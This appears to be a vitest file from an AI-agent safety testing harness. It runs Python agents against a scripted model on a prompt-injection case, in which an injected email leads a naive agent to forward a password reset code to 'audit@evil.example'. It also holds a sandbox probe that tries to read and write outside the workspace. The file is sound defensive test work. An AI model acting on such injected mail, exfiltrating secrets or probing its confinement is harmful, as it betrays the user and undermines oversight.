import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ProgramSearch } from '../adapters/agent-programs.js';
import { agentsDir } from '../adapters/agent-programs.js';
import { pythonAgent } from '../adapters/python-agent.js';
import type { SafetyCase } from '../engine/case-schema.js';
import { runCase } from '../runner/run-case.js';
import { InProcessBackend } from '../sandbox/backends/in-process-backend.js';
import { isRealUserMessage } from '../testing/directives.js';
import { startScriptedModelServer, type StartedModelServer } from '../testing/scripted-model-server.js';
import { agentInstall, loadCase, toolCalls } from './helpers/agent-runs.js';
import { REPO } from './helpers/run-vitest.js';

/**
 * A Python agent through one contract (`agent: { type: 'python', entry }`, python/vera_agent):
 * the examples (examples/python-agent: a plain tool loop on the OpenAI client and the MCP SDK, the
 * OpenAI Agents SDK, PydanticAI; scripts/install-agents.sh python-agents → .agents/python/venv)
 * against the scripted model on the Chat Completions wire, confined like the CLI agents.
 */
const PYTHON_AGENTS: Omit<ProgramSearch, 'configured'> = {
  label: 'the Python agents venv',
  envVar: 'VERA_TEST_PYTHON_AGENTS',
  installed: ['python/venv/bin/python'],
};
const install = agentInstall([PYTHON_AGENTS]);
const PYTHON = join(agentsDir(), 'python/venv/bin/python');
const EXAMPLES = join(REPO, 'examples/python-agent');

describe.skipIf(install.skip)('a Python agent under test (vera_agent host, scripted model)', () => {
  let spec: SafetyCase;
  let naive: StartedModelServer;
  let guarded: StartedModelServer;
  let scratch: string;
  const agent = (server: StartedModelServer, entry = 'tool_loop_agent:run', path = [EXAMPLES]) =>
    pythonAgent({
      entry,
      pythonPath: path,
      python: PYTHON,
      model: 'vera-scripted',
      baseURL: server.url,
      apiKeyEnv: 'VERA_TEST_NO_KEY',
      turnTimeoutSeconds: 60,
    });

  beforeAll(async () => {
    if (install.missing) throw new Error(install.missing);
    const loaded = await loadCase('cases/email/forward-reset-code.case.yaml');
    spec = { ...loaded, budgets: { ...loaded.budgets, seconds: 90 } };
    naive = await startScriptedModelServer({ policy: 'naive' });
    guarded = await startScriptedModelServer({ policy: 'guarded' });
    scratch = await mkdtemp(join(tmpdir(), 'vera-python-agent-'));
  });
  afterAll(async () => {
    await naive?.close();
    await guarded?.close();
    await rm(scratch, { recursive: true, force: true });
  });

  // Two frameworks from PyPI, each pointed at the endpoint and the gateway by the context alone.
  it.each([
    ['openai_agents_sdk_agent:run', 'the OpenAI Agents SDK'],
    ['pydantic_ai_agent:run', 'PydanticAI'],
  ])('%s (%s): violated under the naive model, safe under the guarded one over two turns', async (entry) => {
    const violated = await runCase({ spec, threatModel: 'multi-channel', agent: agent(naive, entry), recordDir: false });
    expect(violated.record.error).toBeUndefined();
    expect(violated.record.status).toBe('violated');
    expect(toolCalls(violated.record).find((c) => c.tool === 'forward_email')).toMatchObject({
      origin: 'gateway',
      args: { id: 'm-2', to: 'audit@evil.example' },
    });
    expect(violated.record.confinement).toBe('bubblewrap');
    const safe = await runCase({ spec, threatModel: 'multi-channel', agent: agent(guarded, entry), recordDir: false });
    expect(safe.record.error).toBeUndefined();
    expect(safe.record.status).toBe('safe');
    expect(safe.record.turns).toBe(2);
    expect(safe.record.responses[1]).toMatch(/I can't help with that/);
  });

  it('multi-channel, naive: reads the injected mail and forwards the reset code over MCP → violated with evidence; the program in the record', async () => {
    const { record } = await runCase({ spec, threatModel: 'multi-channel', agent: agent(naive), recordDir: false });
    expect(record.error).toBeUndefined();
    expect(record.status).toBe('violated');
    expect(record.agent).toBe('python:tool_loop_agent:run');
    expect(record.confinement).toBe('bubblewrap');
    const calls = toolCalls(record);
    expect(calls.find((c) => c.tool === 'read_email')?.injected).toEqual(['audit-request']);
    const forward = calls.find((c) => c.tool === 'forward_email')!;
    expect(forward).toMatchObject({ origin: 'gateway', args: { id: 'm-2', to: 'audit@evil.example' } });
    expect(record.verdict.evidence[0]).toMatchObject({ at: 'verifier.egress', holds: true, events: [forward.seq] });
    expect(record.usage.input).toBeGreaterThan(0);
    // What the agent offered the model: the gateway's tools, as the MCP SDK listed them.
    const first = naive.requests.find((r) => r.conversation)!.conversation!;
    expect(first.tools.map((t) => t.name)).toEqual(expect.arrayContaining(['read_email', 'forward_email', 'list_emails']));
    expect(record.agentProgram).toMatchObject({ name: 'python', version: expect.stringMatching(/^3\.\d+\.\d+$/) });
    expect(record.agentProgram!.config.map((c) => c.content).join('\n')).toContain('vera_agent.host tool_loop_agent:run');
    expect(JSON.stringify(record)).not.toContain(process.env.VERA_TEST_NO_KEY ?? 'sk-never-set');
  });

  it('multi-channel, guarded: ignores the injection and refuses the adversary → safe, two turns of one session with its history', async () => {
    const before = guarded.requests.length;
    const { record } = await runCase({ spec, threatModel: 'multi-channel', agent: agent(guarded), recordDir: false });
    expect(record.error).toBeUndefined();
    expect(record.status).toBe('safe');
    expect(record.turns).toBe(2);
    expect(toolCalls(record).some((c) => c.tool === 'forward_email')).toBe(false);
    expect(record.responses[1]).toMatch(/I can't help with that/);
    const turn2 = guarded.requests
      .slice(before)
      .filter((r) => r.conversation && r.status === 200)
      .at(-1)!.conversation!;
    const userTexts = turn2.messages.filter(isRealUserMessage).map((m) => m.text);
    expect(userTexts.some((t) => t.includes('Please go through my inbox'))).toBe(true);
    expect(userTexts.at(-1)).toContain('security audit team');
  });

  it("the agent's own exception fails the run with its Python traceback, naming the agent's file and function", async () => {
    await writeFile(
      join(scratch, 'flaky_agent.py'),
      [
        'def run(message, ctx):',
        '    return parse_plan(message)',
        '',
        'def parse_plan(text):',
        '    raise ValueError("unknown to the planner: " + text[:20])',
        '',
      ].join('\n'),
    );
    const { record } = await runCase({ spec, threatModel: 'benign', agent: agent(naive, 'flaky_agent:run', [scratch]), recordDir: false });
    expect(record.status).toBe('error');
    expect(record.error).toMatchObject({
      kind: 'AgentError',
      message: expect.stringMatching(/^python agent flaky_agent:run raised ValueError: unknown to the planner: /),
    });
    expect(record.error?.detail).toMatch(/flaky_agent\.py", line 5, in parse_plan/);
    expect(record.error?.detail).toMatch(/flaky_agent\.py", line 2, in run/);
  });

  it('an entry that does not import fails the start, naming the module', async () => {
    const { record } = await runCase({ spec, threatModel: 'benign', agent: agent(naive, 'no_such_agent:run'), recordDir: false });
    expect(record.status).toBe('error');
    expect(record.error?.message).toMatch(/^python agent no_such_agent:run did not load: ModuleNotFoundError: No module named 'no_such_agent'/);
  });

  it('confined, the agent cannot read the repository or write outside its workspace; unconfined (the explicit opt-in), the same agent can — so the probe works', async () => {
    const target = join(scratch, 'written-outside.txt');
    await writeFile(
      join(scratch, 'probe_agent.py'),
      [
        'def run(message, ctx):',
        '    found = []',
        '    for attempt in (lambda: open(%s).read()[:1], lambda: open(%s, "w").write("x")):'
          .replace('%s', JSON.stringify(join(REPO, 'package.json')))
          .replace('%s', JSON.stringify(target)),
        '        try:',
        '            attempt()',
        '            found.append("ok")',
        '        except OSError as error:',
        '            found.append(type(error).__name__)',
        '    return " ".join(found)',
        '',
      ].join('\n'),
    );
    const probeAgent = agent(naive, 'probe_agent:run', [scratch]);
    const confined = await runCase({ spec, threatModel: 'benign', agent: probeAgent, recordDir: false });
    expect(confined.record.error).toBeUndefined();
    expect(confined.record.confinement).toBe('bubblewrap');
    expect(confined.record.responses[0]).not.toMatch(/ok/);
    const unconfined = await runCase({
      spec,
      threatModel: 'benign',
      agent: probeAgent,
      backend: new InProcessBackend({ programs: 'unconfined' }),
      recordDir: false,
    });
    expect(unconfined.record.confinement).toBe('none');
    expect(unconfined.record.responses[0]).toBe('ok ok');
  });
});
